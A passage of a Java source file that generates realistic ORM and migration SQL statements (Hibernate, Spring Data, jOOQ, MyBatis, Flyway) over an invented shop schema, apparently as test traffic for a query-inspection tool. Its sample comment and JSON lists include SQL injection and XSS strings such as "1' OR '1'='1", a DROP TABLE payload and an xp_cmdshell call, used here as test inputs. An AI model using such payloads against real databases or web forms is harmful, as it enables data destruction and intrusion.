        "50% off; today only!",
        "sleep(5) is what my kid needs after school",
        "benchmark results: 10 ms vs 12 ms",
        "admin' -- is not my password, promise",
        "Robert'); DROP TABLE students;--",
        "🎉 shipped! 🚀",
        "naïve café résumé — crème brûlée",
        "这个产品很好，物流也很快。",
        "منتج رائع وسعر مناسب",
        "מוצר מעולה",
        "x' or 'y",
        "<script>alert(1)</script> (just testing your XSS filter, sorry)",
        "LOAD_FILE is a MySQL function, I read about it on the blog.",
        "information_schema is where MySQL keeps metadata.",
        "GRANT ALL is dangerous, use least privilege.",
        "Line one\nLine two\n-- signature",
        "Tabs\tand\ttabs",
        "; ; ;",
        "/* ",
        "*/ done",
        "SELECT is my favourite keyword",
        "I'd rate it 4/5 -- would buy again; shipping was slow though.",
        "Price was $19.99 + tax = $21.59",
        "'; exec xp_cmdshell 'dir' -- (saw this in our logs, what is it?)",
        "WAITFOR DELAY is MSSQL, not MySQL",
        "My e-mail is anna@example.com, call me at +44 20 7946 0958",
        "It's 5 o'clock somewhere",
        "1' OR '1'='1");
    static final List<String> URLS = List.of("https://example.com/search?q=drop+table&sort=asc",
        "https://shop.example/p/123?utm_source=news;ref=x", "http://intranet.example/wiki/O'Reilly_Books",
        "https://example.org/a/b/../c?x=1&y=2#frag", "https://cdn.example.net/img/2024/03/cat%20photo.jpg",
        "https://example.com/?q=%27%20OR%201%3D1", "https://例え.jp/パス", "https://example.com/union/select");
    static final List<String> JSON_DOCS = List.of("{\"theme\":\"dark\",\"notify\":{\"email\":true,\"sms\":false}}",
        "{\"note\":\"it's fine\",\"tags\":[\"a\",\"b\"]}", "{\"q\":\"' OR 1=1 --\",\"page\":2}",
        "{\"color\":\"red\",\"size\":\"M\",\"stock\":12}", "{\"path\":\"C:\\\\temp\\\\x.txt\"}",
        "{\"emoji\":\"😀\",\"name\":\"Zoë\"}", "[]", "{}", "{\"sql\":\"SELECT 1; DROP TABLE t\"}",
        "{\"items\":[{\"sku\":\"SKU-1\",\"qty\":2},{\"sku\":\"SKU-2\",\"qty\":1}]}");
    static final List<String> ORDER_STATUS = List.of("NEW", "PAID", "SHIPPED", "DELIVERED", "CANCELLED",
        "REFUNDED");
    static final List<String> CURRENCIES = List.of("EUR", "USD", "GBP", "CHF", "JPY");
    static final List<String> SCHEMAS = List.of("shop", "billing", "crm", "inventory", "app");

    String name() {
      return pick(FIRST) + " " + pick(LAST);
    }

    String email() {
      String first = ascii(pick(FIRST)).toLowerCase(Locale.ROOT);
      String last = ascii(pick(LAST)).toLowerCase(Locale.ROOT).replace(" ", "");
      String local = switch (rnd.nextInt(5)) {
        case 0 -> first + "." + last;
        case 1 -> first + "+news";
        case 2 -> first.charAt(0) + last + rnd.nextInt(100);
        case 3 -> "o'" + last;
        default -> first + "_" + last;
      };
      return local + "@" + pick(DOMAINS);
    }

    static String ascii(String s) {
      String n = java.text.Normalizer.normalize(s, java.text.Normalizer.Form.NFD).replaceAll("\\p{M}", "");
      n = n.replaceAll("[^A-Za-z]", "");
      return n.isEmpty() ? "user" : n;
    }

    String date() {
      return String.format(Locale.ROOT, "%d-%02d-%02d", 2022 + rnd.nextInt(4), 1 + rnd.nextInt(12),
          1 + rnd.nextInt(28));
    }

    String timestamp() {
      return date() + String.format(Locale.ROOT, " %02d:%02d:%02d", rnd.nextInt(24), rnd.nextInt(60),
          rnd.nextInt(60));
    }

    String money() {
      return String.format(Locale.ROOT, "%d.%02d", rnd.nextInt(500), rnd.nextInt(100));
    }

    int id() {
      return 1 + rnd.nextInt(rnd.nextBoolean() ? 100 : 250_000);
    }

    String placeholders(int n, String sep) {
      return String.join(sep, Collections.nCopies(n, "?"));
    }

    String literal(String type) {
      return switch (type) {
        case "email" -> q(email());
        case "name" -> q(name());
        case "fk", "id" -> String.valueOf(id());
        case "qty", "rating", "ver" -> String.valueOf(rnd.nextInt(type.equals("rating") ? 6 : 50));
        case "money" -> money();
        case "ts" -> q(timestamp());
        case "date" -> q(date());
        case "bool" -> rnd.nextBoolean() ? "1" : "0";
        case "ostatus" -> q(pick(ORDER_STATUS));
        case "cstatus" -> q(pick("ACTIVE", "SUSPENDED", "PENDING"));
        case "pstatus" -> q(pick("AUTHORIZED", "CAPTURED", "FAILED"));
        case "pmethod" -> q(pick("CARD", "PAYPAL", "SEPA", "APPLE_PAY"));
        case "cur" -> q(pick(CURRENCIES));
        case "product" -> q(pick(PRODUCTS));
        case "sku" -> q("SKU-" + (1000 + rnd.nextInt(9000)));
        case "slug" -> q(pick("kitchen", "garden", "kids-toys", "drop-shipping", "union-made", "select-brands"));
        case "catname" -> q(pick("Kitchen", "Garden", "Toys & Games", "Books", "Men's Shoes"));
        case "city" -> q(pick(CITIES));
        case "country" -> q(pick("FR", "DE", "IE", "PL", "JP", "BR", "CA"));
        case "street" -> q(rnd.nextInt(200) + " " + pick("Rue de l'Église", "Main St", "Königstraße",
            "O'Connell Street", "Avenida Paulista", "1st Ave; Apt 4"));
        case "zip" -> q(String.valueOf(10000 + rnd.nextInt(89999)));
        case "invno" -> q("INV-" + (2022 + rnd.nextInt(4)) + "-" + (10000 + rnd.nextInt(90000)));
        case "text" -> q(pick(COMMENT_BODIES));
        case "hash" -> q("$2a$10$" + Long.toHexString(rnd.nextLong()) + Long.toHexString(rnd.nextLong()));
        case "username" -> q(ascii(pick(FIRST)).toLowerCase(Locale.ROOT) + rnd.nextInt(1000));
        case "carrier" -> q(pick("DHL", "UPS", "La Poste", "DPD", "GLS"));
        case "tracking" -> q("1Z" + Long.toString(Math.abs(rnd.nextLong()), 36).toUpperCase(Locale.ROOT));
        default -> throw new IllegalArgumentException(type);
      };
    }

    // --- model -------------------------------------------------------------------------------

    record Col(String name, String type) {}

    record Entity(String table, String entity, List<Col> cols) {
      List<String> names() {
        List<String> n = new ArrayList<>();
        n.add("id");
        cols.forEach(c -> n.add(c.name()));
        return n;
      }

      String acronym() {
        StringBuilder b = new StringBuilder();
        for (char c : entity.toCharArray()) {
          if (Character.isUpperCase(c)) {
            b.append(Character.toLowerCase(c));
          }
        }
        return b.toString();
      }

      Col col(String name) {
        return cols.stream().filter(c -> c.name().equals(name)).findFirst().orElseThrow();
      }
    }

    record Relation(Entity child, String fk, Entity parent) {}

    static Entity e(String table, String entity, String... colSpecs) {
      List<Col> cols = new ArrayList<>();
      for (String spec : colSpecs) {
        String[] p = spec.split(":");
        cols.add(new Col(p[0], p[1]));
      }
      return new Entity(table, entity, cols);
    }

    static final Entity CUSTOMER = e("customers", "Customer", "created_at:ts", "email:email", "name:name",
        "status:cstatus", "version:ver");
    static final Entity ORDER = e("orders", "Order", "created_at:ts", "currency:cur", "customer_id:fk",
        "status:ostatus", "total:money", "version:ver");
    static final Entity ORDER_ITEM = e("order_items", "OrderItem", "order_id:fk", "product_id:fk",
        "quantity:qty", "unit_price:money");
    static final Entity PRODUCT = e("products", "Product", "active:bool", "category_id:fk", "name:product",
        "price:money", "sku:sku", "stock:qty");
    static final Entity CATEGORY = e("categories", "Category", "name:catname", "parent_id:fk", "slug:slug");
    static final Entity ADDRESS = e("addresses", "Address", "city:city", "country:country", "customer_id:fk",
        "line1:street", "postal_code:zip");
    static final Entity PAYMENT = e("payments", "Payment", "amount:money", "method:pmethod", "order_id:fk",
        "paid_at:ts", "status:pstatus");
    static final Entity INVOICE = e("invoices", "Invoice", "amount:money", "due_at:date", "issued_at:date",
        "number:invno", "order_id:fk");
    static final Entity REVIEW = e("reviews", "Review", "body:text", "created_at:ts", "customer_id:fk",
        "product_id:fk", "rating:rating");
    static final Entity USER = e("users", "AppUser", "email:email", "enabled:bool", "last_login_at:ts",
        "password_hash:hash", "username:username");
    static final Entity SHIPMENT = e("shipments", "Shipment", "carrier:carrier", "delivered_at:ts",
        "order_id:fk", "shipped_at:ts", "tracking_number:tracking");
    static final List<Entity> ENTITIES = List.of(CUSTOMER, ORDER, ORDER_ITEM, PRODUCT, CATEGORY, ADDRESS,
        PAYMENT, INVOICE, REVIEW, USER, SHIPMENT);
    static final List<Relation> RELATIONS = List.of(new Relation(ORDER, "customer_id", CUSTOMER),
        new Relation(ORDER_ITEM, "order_id", ORDER), new Relation(ORDER_ITEM, "product_id", PRODUCT),
        new Relation(PRODUCT, "category_id", CATEGORY), new Relation(ADDRESS, "customer_id", CUSTOMER),
        new Relation(PAYMENT, "order_id", ORDER), new Relation(INVOICE, "order_id", ORDER),
        new Relation(REVIEW, "product_id", PRODUCT), new Relation(REVIEW, "customer_id", CUSTOMER),
        new Relation(SHIPMENT, "order_id", ORDER));

    Col filterCol(Entity e) {
      List<Col> candidates = e.cols().stream().filter(c -> !c.type().equals("text")).toList();
      return pick(candidates);
    }

    // --- Hibernate 6 -------------------------------------------------------------------------

    String hSelectList(Entity e, String alias) {
      List<String> parts = new ArrayList<>();
      for (String n : e.names()) {
        parts.add(alias + "." + n);
      }
      return String.join(",", parts);
    }

    /** A predicate on alias.col, with a ? or (for hand-built SQL) an inlined literal. */
    String hPredicate(String alias, Col c, boolean inline) {
      String v = inline ? literal(c.type()) : "?";
      return switch (rnd.nextInt(8)) {
        case 0 -> alias + "." + c.name() + "<>" + v;
        case 1 -> alias + "." + c.name() + " is null";
        case 2 -> {
          int n = 2 + rnd.nextInt(5);
          List<String> vs = new ArrayList<>();
          for (int i = 0; i < n; i++) {
            vs.add(inline ? literal(c.type()) : "?");
          }
          yield alias + "." + c.name() + " in (" + String.join(",", vs) + ")";
        }
        case 3 -> c.type().equals("ts") || c.type().equals("date") || c.type().equals("money")
            ? alias + "." + c.name() + " between " + v + " and " + (inline ? literal(c.type()) : "?")
            : alias + "." + c.name() + "=" + v;
        default -> alias + "." + c.name() + "=" + v;
      };
    }

    String hibernate() {
      Entity e = pick(ENTITIES);
      String a = e.acronym() + "1_0";
      boolean inline = rnd.nextInt(4) == 0;
      String sql = switch (rnd.nextInt(16)) {
        case 0 -> "select " + hSelectList(e, a) + " from " + e.table() + " " + a + " where " + a + ".id=?";
        case 1, 2 -> {
          String where = hPredicate(a, filterCol(e), inline);
          if (rnd.nextBoolean()) {
            where += (rnd.nextBoolean() ? " and " : " or ") + hPredicate(a, filterCol(e), inline);
          }
          yield "select " + hSelectList(e, a) + " from " + e.table() + " " + a + " where " + where;
        }
        case 3 -> {
          Relation r = pick(RELATIONS);
          String ca = r.child().acronym() + "1_0";
          String pa = r.parent().acronym() + (r.parent().acronym().equals(r.child().acronym()) ? "2_0" : "1_0");
          String join = rnd.nextBoolean() ? " join " : " left join ";
          Col pc = filterCol(r.parent());
          yield "select " + hSelectList(r.child(), ca) + "," + hSelectList(r.parent(), pa) + " from "
              + r.child().table() + " " + ca + join + r.parent().table() + " " + pa + " on " + pa + ".id=" + ca
              + "." + r.fk() + " where " + hPredicate(pa, pc, inline);
        }
        case 4 -> {
          Relation r = pick(RELATIONS);
          String pa = r.parent().acronym() + "1_0";
          String ca = r.child().acronym() + (r.parent().acronym().equals(r.child().acronym()) ? "2_0" : "1_0");
          yield "select " + hSelectList(r.parent(), pa) + "," + hSelectList(r.child(), ca) + " from "
              + r.parent().table() + " " + pa + " left join " + r.child().table() + " " + ca + " on " + pa
              + ".id=" + ca + "." + r.fk() + " where " + pa + ".id=" + (inline ? String.valueOf(id()) : "?");
        }
        case 5 -> "select count(" + a + ".id) from " + e.table() + " " + a + " where "
            + hPredicate(a, filterCol(e), inline);
        case 6 -> {
          Col order = pick(e.cols());
          String limit = rnd.nextBoolean() ? " limit ?,?" : " limit ?";
          if (inline) {
            limit = rnd.nextBoolean() ? " limit " + (rnd.nextInt(10) * 20) + "," + 20 : " limit " + 50;
          }
          yield "select " + hSelectList(e, a) + " from " + e.table() + " " + a + " where "
              + hPredicate(a, filterCol(e), inline) + " order by " + a + "." + order.name()
              + (rnd.nextBoolean() ? " desc" : "") + limit;
        }
        case 7 -> "select " + hSelectList(e, a) + " from " + e.table() + " " + a + " where " + a + ".id=?"
            + pick(" for update", " for update nowait", " for update skip locked", " for share");
        case 8 -> {
          List<String> cols = new ArrayList<>();
          e.cols().forEach(c -> cols.add(c.name()));
          boolean identity = rnd.nextBoolean();
          if (!identity) {
            cols.add("id");
          }
          int rows = rnd.nextInt(4) == 0 ? 2 + rnd.nextInt(4) : 1;
          List<String> tuples = new ArrayList<>();
          for (int i = 0; i < rows; i++) {
            tuples.add("(" + placeholders(cols.size(), ",") + ")");
          }
          yield "insert into " + e.table() + " (" + String.join(",", cols) + ") values "
              + String.join(",", tuples);
        }
        case 9 -> {
          List<String> cols = new ArrayList<>();
          List<String> vals = new ArrayList<>();
          for (Col c : e.cols()) {
            cols.add(c.name());
            vals.add(literal(c.type()));
          }
          yield "insert into " + e.table() + " (" + String.join(",", cols) + ") values ("
              + String.join(",", vals) + ")";
        }
        case 10 -> {
          List<String> sets = new ArrayList<>();
          for (Col c : e.cols()) {
            if (!c.name().equals("version") && rnd.nextInt(3) > 0) {
              sets.add(c.name() + "=" + (inline ? literal(c.type()) : "?"));
            }
          }
          if (sets.isEmpty()) {
            sets.add(e.cols().get(0).name() + "=?");
          }
          boolean versioned = e.cols().stream().anyMatch(c -> c.name().equals("version"));
          if (versioned) {
            sets.add("version=?");
          }
          yield "update " + e.table() + " set " + String.join(",", sets) + " where id=?"
              + (versioned ? " and version=?" : "");
        }
        case 11 -> "delete from " + e.table() + " where id=" + (inline ? String.valueOf(id()) : "?")
            + (e.cols().stream().anyMatch(c -> c.name().equals("version")) && rnd.nextBoolean()
                ? " and version=?" : "");
        case 12 -> {
          Relation r = pick(RELATIONS);
          String pa = r.parent().acronym() + "1_0";
          String ca = r.child().acronym() + (r.parent().acronym().equals(r.child().acronym()) ? "2_0" : "1_0");
          yield "select " + hSelectList(r.parent(), pa) + " from " + r.parent().table() + " " + pa
              + " where " + (rnd.nextBoolean() ? "" : "not ") + "exists(select 1 from " + r.child().table() + " "
              + ca + " where " + ca + "." + r.fk() + "=" + pa + ".id)";
        }
        case 13 -> "select sum(o1_0.total),count(o1_0.id),max(o1_0.created_at) from orders o1_0 where "
            + "o1_0.customer_id=" + (inline ? String.valueOf(id()) : "?") + " and o1_0.status in ("
            + (inline ? q(pick(ORDER_STATUS)) + "," + q(pick(ORDER_STATUS)) : "?,?") + ")";
        case 14 -> "select c1_0.id,c1_0.name,count(o1_0.id) from customers c1_0 left join orders o1_0 on "
            + "c1_0.id=o1_0.customer_id group by c1_0.id,c1_0.name having count(o1_0.id)>"
            + (inline ? String.valueOf(rnd.nextInt(20)) : "?") + " order by 3 desc limit ?";
        default -> pick("select next_val as id_val from hibernate_sequence for update",
            "update hibernate_sequence set next_val= ? where next_val=?",
            "select next_val as id_val from " + e.table() + "_seq for update",
            "update " + e.table() + "_seq set next_val= ? where next_val=?",
            "select " + a + ".id from " + e.table() + " " + a + " where " + a + ".id=? for update");
      };
      if (rnd.nextInt(12) == 0 && sql.startsWith("select")) {
        sql = "/* <criteria> */ " + sql;
      } else if (rnd.nextInt(12) == 0 && sql.startsWith("select")) {
        sql = "/* select e from " + e.entity() + " e where e.id = :id */ " + sql;
      }
      return sql;
    }

    // --- Spring Data ---------------------------------------------------------------------------

    String springData() {
      Entity e = pick(ENTITIES);
      String a = e.acronym() + "1_0";
      Col c = filterCol(e);
      Col c2 = filterCol(e);
      String sql = switch (rnd.nextInt(14)) {
        // Spring Data JPA derived queries (rendered by Hibernate)
        case 0 -> "select " + hSelectList(e, a) + " from " + e.table() + " " + a + " where " + a + "."
            + c.name() + "=? and " + a + "." + c2.name() + "=?";
        case 1 -> "select " + a + ".id from " + e.table() + " " + a + " where " + a + "." + c.name()
            + "=? limit ?";
        case 2 -> "select count(*) from " + e.table() + " " + a + " where " + a + "." + c.name() + "=?";
        case 3 -> "select " + hSelectList(e, a) + " from " + e.table() + " " + a + " where " + a + "."
            + c.name() + " like ? escape '\\\\'" + (rnd.nextBoolean() ? " order by " + a + ".id" : "");
        case 4 -> "select " + hSelectList(e, a) + " from " + e.table() + " " + a + " where " + a + "."
            + c.name() + "=? order by " + a + "." + c2.name() + pick(" desc", " asc", "") + " limit ?,?";
        case 5 -> "select count(" + a + ".id) from " + e.table() + " " + a + " where " + a + "." + c.name()
            + "=?";
        case 6 -> "select " + hSelectList(e, a) + " from " + e.table() + " " + a + " where " + a + "."
            + c.name() + " in (" + placeholders(1 + rnd.nextInt(8), ",") + ")";
        // Spring Data JDBC
        case 7 -> {
          List<String> cols = new ArrayList<>();
          for (String n : e.names()) {
            cols.add("`" + e.table() + "`.`" + n + "` AS `" + n + "`");
          }
          yield "SELECT " + String.join(", ", cols) + " FROM `" + e.table() + "` WHERE `" + e.table() + "`.`"
              + c.name() + "` = ?";
        }
        case 8 -> "SELECT COUNT(*) FROM `" + e.table() + "` WHERE `" + e.table() + "`.`id` = ?";
        case 9 -> {
          List<String> cols = new ArrayList<>();
          for (Col col : e.cols()) {
            cols.add("`" + col.name() + "`");
          }
          yield "INSERT INTO `" + e.table() + "` (" + String.join(", ", cols) + ") VALUES ("
              + placeholders(cols.size(), ", ") + ")";
        }
        case 10 -> {
          List<String> sets = new ArrayList<>();
          for (Col col : e.cols()) {
            sets.add("`" + col.name() + "` = ?");
          }
          yield "UPDATE `" + e.table() + "` SET " + String.join(", ", sets) + " WHERE `" + e.table()
              + "`.`id` = ?";
        }
        // JdbcTemplate / NamedParameterJdbcTemplate, Spring Batch, Spring Session
        case 11 -> "SELECT id, " + c.name() + " FROM " + e.table() + " WHERE id IN ("
            + placeholders(1 + rnd.nextInt(6), ", ") + ")";
        case 12 -> pick(
            "SELECT JOB_INSTANCE_ID, JOB_NAME from BATCH_JOB_INSTANCE where JOB_NAME = ? and JOB_KEY = ?",
            "SELECT E.JOB_EXECUTION_ID, E.START_TIME, E.END_TIME, E.STATUS, E.EXIT_CODE, E.EXIT_MESSAGE, "
                + "E.CREATE_TIME, E.LAST_UPDATED, E.VERSION from BATCH_JOB_EXECUTION E where "
                + "JOB_INSTANCE_ID = ? order by JOB_EXECUTION_ID desc",
            "INSERT into BATCH_JOB_EXECUTION(JOB_EXECUTION_ID, JOB_INSTANCE_ID, START_TIME, END_TIME, STATUS, "
                + "EXIT_CODE, EXIT_MESSAGE, VERSION, CREATE_TIME, LAST_UPDATED) values (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
            "UPDATE BATCH_STEP_EXECUTION set START_TIME = ?, END_TIME = ?, STATUS = ?, COMMIT_COUNT = ?, "
                + "READ_COUNT = ?, FILTER_COUNT = ?, WRITE_COUNT = ?, EXIT_CODE = ?, EXIT_MESSAGE = ?, "
                + "VERSION = ?, READ_SKIP_COUNT = ?, PROCESS_SKIP_COUNT = ?, WRITE_SKIP_COUNT = ?, "
                + "ROLLBACK_COUNT = ?, LAST_UPDATED = ? where STEP_EXECUTION_ID = ? and VERSION = ?",
            "SELECT COUNT(*) FROM BATCH_JOB_INSTANCE WHERE JOB_NAME = ?",
            "UPDATE BATCH_JOB_SEQ SET ID = LAST_INSERT_ID(ID + 1)",
            "SELECT LAST_INSERT_ID()",
            "SELECT S.PRIMARY_ID, S.SESSION_ID, S.CREATION_TIME, S.LAST_ACCESS_TIME, S.MAX_INACTIVE_INTERVAL, "
                + "SA.ATTRIBUTE_NAME, SA.ATTRIBUTE_BYTES FROM SPRING_SESSION S LEFT JOIN "
                + "SPRING_SESSION_ATTRIBUTES SA ON S.PRIMARY_ID = SA.SESSION_PRIMARY_ID WHERE S.SESSION_ID = ?",
            "DELETE FROM SPRING_SESSION WHERE EXPIRY_TIME < ?",
            "UPDATE SPRING_SESSION SET SESSION_ID = ?, LAST_ACCESS_TIME = ?, MAX_INACTIVE_INTERVAL = ?, "
                + "EXPIRY_TIME = ?, PRINCIPAL_NAME = ? WHERE PRIMARY_ID = ?",
            "INSERT INTO SPRING_SESSION_ATTRIBUTES (SESSION_PRIMARY_ID, ATTRIBUTE_NAME, ATTRIBUTE_BYTES) "
                + "VALUES (?, ?, ?)");
        default -> "select exists(select 1 from " + e.table() + " where " + c.name() + " = ?)";
      };
      if (rnd.nextInt(8) == 0) {
        sql = sql + " /*action='" + pick("list", "show", "create", "update") + "',controller='"
            + e.entity().toLowerCase(Locale.ROOT) + "',db_driver='mysql-connector-j',framework='spring-boot'*/";
      }
      return sql;
    }

    // --- jOOQ --------------------------------------------------------------------------------

    String jooq() {
      Entity e = pick(ENTITIES);
      String s = pick(SCHEMAS);
      String t = "`" + s + "`.`" + e.table() + "`";
      boolean inline = rnd.nextInt(4) == 0;
      Col c = filterCol(e);
      String v = inline ? literal(c.type()) : "?";
      List<String> fields = new ArrayList<>();
      for (String n : e.names()) {
        fields.add(t + ".`" + n + "`");
      }
      String sel = "select " + String.join(", ", fields) + " from " + t;
      return switch (rnd.nextInt(11)) {
        case 0, 1 -> sel + " where " + t + ".`" + c.name() + "` = " + v;
        case 2 -> sel + " where (" + t + ".`" + c.name() + "` = " + v + " and " + t + ".`id` > "
            + (inline ? String.valueOf(id()) : "?") + ") order by " + t + ".`id` desc limit ?"
            + (rnd.nextBoolean() ? " offset ?" : "");
        case 3 -> {
          Relation r = pick(RELATIONS);
          String ct = "`" + s + "`.`" + r.child().table() + "`";
          String pt = "`" + s + "`.`" + r.parent().table() + "`";
          yield "select " + pt + ".`id`, " + ct + ".`id` from " + pt + " join " + ct + " on " + ct + ".`"
              + r.fk() + "` = " + pt + ".`id` where " + pt + ".`id` = " + (inline ? String.valueOf(id()) : "?");
        }
        case 4 -> "select count(*) from " + t + " where " + t + ".`" + c.name() + "` = " + v;
        case 5 -> "select 1 as `one` from dual where exists (select 1 as `one` from " + t + " where " + t
            + ".`" + c.name() + "` = " + v + ")";
        case 6 -> {
          List<String> cols = new ArrayList<>();
          List<String> vals = new ArrayList<>();
          for (Col col : e.cols()) {
            cols.add("`" + col.name() + "`");
            vals.add(inline ? literal(col.type()) : "?");
          }
          yield "insert into " + t + " (" + String.join(", ", cols) + ") values (" + String.join(", ", vals)
              + ")" + (rnd.nextBoolean() ? " on duplicate key update " + t + ".`" + e.cols().get(0).name()
              + "` = " + (inline ? literal(e.cols().get(0).type()) : "?") : "");
        }
        case 7 -> "update " + t + " set " + t + ".`" + c.name() + "` = " + v + " where " + t + ".`id` = "
            + (inline ? String.valueOf(id()) : "?");
        case 8 -> "delete from " + t + " where " + t + ".`id` in (" + placeholders(1 + rnd.nextInt(5), ", ")
            + ")";
        case 9 -> "select " + t + ".`" + c.name() + "`, count(*) from " + t + " group by " + t + ".`"
            + c.name() + "` having count(*) > " + (inline ? String.valueOf(rnd.nextInt(10)) : "?");
        default -> "with `recent` as (select " + t + ".`id` from " + t + " where " + t + ".`id` > "
            + (inline ? String.valueOf(id()) : "?") + ") select `recent`.`id` from `recent` limit ?";
      };
    }

    // --- MyBatis -----------------------------------------------------------------------------

    String mybatis() {
      Entity e = pick(ENTITIES);
      List<String> cols = e.names();
      String nl = rnd.nextBoolean() ? "\n" : " ";
      String indent = nl.equals("\n") ? "    " : "";
      int conditions = rnd.nextInt(4);
      StringBuilder where = new StringBuilder();
      for (int i = 0; i < conditions; i++) {
        Col c = filterCol(e);
        String cond = switch (rnd.nextInt(4)) {
          case 0 -> c.name() + " = #{" + c.name() + "}";
          case 1 -> c.name() + " LIKE CONCAT('%', #{" + c.name() + "}, '%')";
          case 2 -> c.name() + " >= #{from}";
          default -> c.name() + " = #{" + c.name() + "}";
        };
        where.append(nl).append(indent).append("  AND ").append(cond.replaceAll("#\\{\\w+\\}", "?"));
      }
      String select = "SELECT " + String.join(", ", cols) + nl + indent + "FROM " + e.table();
      return switch (rnd.nextInt(9)) {
        case 0, 1, 2 -> select + nl + indent + "WHERE 1=1" + where
            + (rnd.nextBoolean() ? nl + indent + "ORDER BY " + pick(cols) + pick(" DESC", " ASC", "") : "");
        case 3 -> select + nl + indent + "WHERE 1 = 1" + where + nl + indent + "LIMIT ?, ?";
        case 4 -> select + " WHERE " + pick(cols) + " IN " + (rnd.nextBoolean()
            ? "( " + placeholders(1 + rnd.nextInt(6), " , ") + " )"
            : "(" + placeholders(1 + rnd.nextInt(6), ",") + ")");
        case 5 -> "SELECT count(0) FROM " + e.table() + " WHERE 1=1" + where;
        case 6 -> {
          StringBuilder sets = new StringBuilder();
          for (Col c : e.cols()) {
            if (rnd.nextBoolean()) {
              sets.append(nl).append(indent).append("  ").append(c.name()).append(" = ?,");
            }
          }
          if (sets.length() == 0) {
            sets.append(" ").append(e.cols().get(0).name()).append(" = ?,");
          }
          yield "UPDATE " + e.table() + nl + indent + "SET" + sets.substring(0, sets.length() - 1) + nl + indent
              + "WHERE id = ?";
        }
        case 7 -> {
          int rows = 1 + rnd.nextInt(5);
          List<String> tuples = new ArrayList<>();
          for (int i = 0; i < rows; i++) {
            tuples.add("(" + placeholders(e.cols().size(), ", ") + ")");
          }
          List<String> names = new ArrayList<>();
          e.cols().forEach(c -> names.add(c.name()));
          yield "INSERT INTO " + e.table() + " (" + String.join(", ", names) + ")" + nl + indent + "VALUES "
              + String.join(" , ", tuples);
        }
        default -> "SELECT " + String.join(",", cols) + " FROM " + e.table() + " WHERE deleted=0 AND ("
            + filterCol(e).name() + " = ? AND " + filterCol(e).name() + " LIKE ?)";
      };
    }

    // --- Flyway ------------------------------------------------------------------------------

    static final List<String> SQL_TYPES = List.of("BIGINT NOT NULL", "INT NULL", "VARCHAR(255) NOT NULL",
        "VARCHAR(64) NULL", "DECIMAL(12,2) NOT NULL DEFAULT 0.00", "DATETIME(6) NULL",
        "TIMESTAMP NOT NULL DEFAULT CURRENT_TIMESTAMP", "TINYINT(1) NOT NULL DEFAULT 0", "JSON NULL",
        "TEXT NULL", "CHAR(3) NOT NULL DEFAULT 'EUR'", "ENUM('NEW','PAID','SHIPPED') NOT NULL DEFAULT 'NEW'");
    static final List<String> NEW_COLUMNS = List.of("archived_at", "external_ref", "notes", "discount",
        "locale", "tax_rate", "metadata", "deleted", "source", "priority", "risk_score", "gift_message");

    String flyway() {
      String s = pick(SCHEMAS);
      Entity e = pick(ENTITIES);
      String col = pick(NEW_COLUMNS);
      int v = 1 + rnd.nextInt(120);
      return switch (rnd.nextInt(16)) {
        case 0 -> {
          StringBuilder b = new StringBuilder("CREATE TABLE " + (rnd.nextBoolean() ? "IF NOT EXISTS " : "")
              + e.table() + "_" + pick("archive", "history", "audit", "staging") + " (\n  id BIGINT NOT NULL AUTO_INCREMENT");
          int n = 2 + rnd.nextInt(5);
          for (int i = 0; i < n; i++) {
            b.append(",\n  ").append(pick(NEW_COLUMNS)).append(i).append(' ').append(pick(SQL_TYPES));
          }
          b.append(",\n  PRIMARY KEY (id)\n) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4 COLLATE=utf8mb4_0900_ai_ci");
          yield b.toString();
        }
        case 1 -> "ALTER TABLE " + e.table() + " ADD COLUMN " + col + " " + pick(SQL_TYPES)
            + (rnd.nextBoolean() ? " AFTER " + pick(e.cols()).name() : "");
        case 2 -> "ALTER TABLE " + e.table() + " ADD INDEX idx_" + e.table() + "_" + col + " (" + col + ")";
        case 3 -> "CREATE " + (rnd.nextBoolean() ? "UNIQUE " : "") + "INDEX ix_" + e.table() + "_"
            + pick(e.cols()).name() + " ON " + e.table() + " (" + pick(e.cols()).name() + ")";
        case 4 -> "ALTER TABLE " + e.table() + " ADD CONSTRAINT fk_" + e.table() + "_" + v
            + " FOREIGN KEY (" + pick(e.cols()).name() + ") REFERENCES " + pick(ENTITIES).table()
            + " (id) ON DELETE " + pick("CASCADE", "RESTRICT", "SET NULL");
        case 5 -> "ALTER TABLE " + e.table() + " MODIFY COLUMN " + col + " " + pick(SQL_TYPES);
        case 6 -> "ALTER TABLE " + e.table() + " RENAME COLUMN " + col + " TO " + col + "_old";
        case 7 -> "UPDATE " + e.table() + " SET " + col + " = " + pick("0", "NULL", "'EUR'", "'fr_FR'", "NOW()")
            + " WHERE " + col + " IS NULL";
        case 8 -> "INSERT INTO roles (name, description) VALUES " + pick(
            "('ADMIN', 'Administrators'), ('USER', 'Registered users')",
            "('SUPPORT', 'Support desk; read-only'), ('AUDITOR', 'Can read the audit log')",
            "('GUEST', 'Anonymous -- no login')");
        case 9 -> "SELECT `installed_rank`,`version`,`description`,`type`,`script`,`checksum`,`installed_on`,"
            + "`installed_by`,`execution_time`,`success` FROM `" + s + "`.`flyway_schema_history` WHERE "
            + "`installed_rank` > ? ORDER BY `installed_rank`";
        case 10 -> "INSERT INTO `" + s + "`.`flyway_schema_history` (`installed_rank`, `version`, `description`, "
            + "`type`, `script`, `checksum`, `installed_by`, `execution_time`, `success`) VALUES (?, ?, ?, ?, ?, ?, "
            + "?, ?, ?)";
        case 11 -> pick("SELECT 1 FROM information_schema.TABLES WHERE TABLE_SCHEMA=? AND TABLE_NAME=?",
            "SELECT COUNT(*) FROM information_schema.tables WHERE table_schema = ?",
            "SELECT table_name FROM information_schema.tables WHERE table_schema = ? AND table_type = 'BASE TABLE'",
            "SELECT SCHEMA_NAME FROM INFORMATION_SCHEMA.SCHEMATA WHERE SCHEMA_NAME=?",
            "SELECT table_name FROM information_schema.views WHERE table_schema = ?",
            "SELECT routine_name FROM information_schema.routines WHERE routine_schema = ? AND routine_type = ?",
            "SELECT event_name FROM information_schema.events WHERE event_schema = ?",
            "SELECT 1 FROM information_schema.TABLES WHERE TABLE_SCHEMA='" + s + "' AND TABLE_NAME='"
                + "flyway_schema_history'");
        case 12 -> pick("SELECT GET_LOCK(?, ?)", "SELECT RELEASE_LOCK(?)",
            "SELECT GET_LOCK('Flyway-" + (1_000_000_000L + rnd.nextInt(999_999_999)) + "', 10)",
            "SELECT RELEASE_LOCK('Flyway-" + (1_000_000_000L + rnd.nextInt(999_999_999)) + "')",
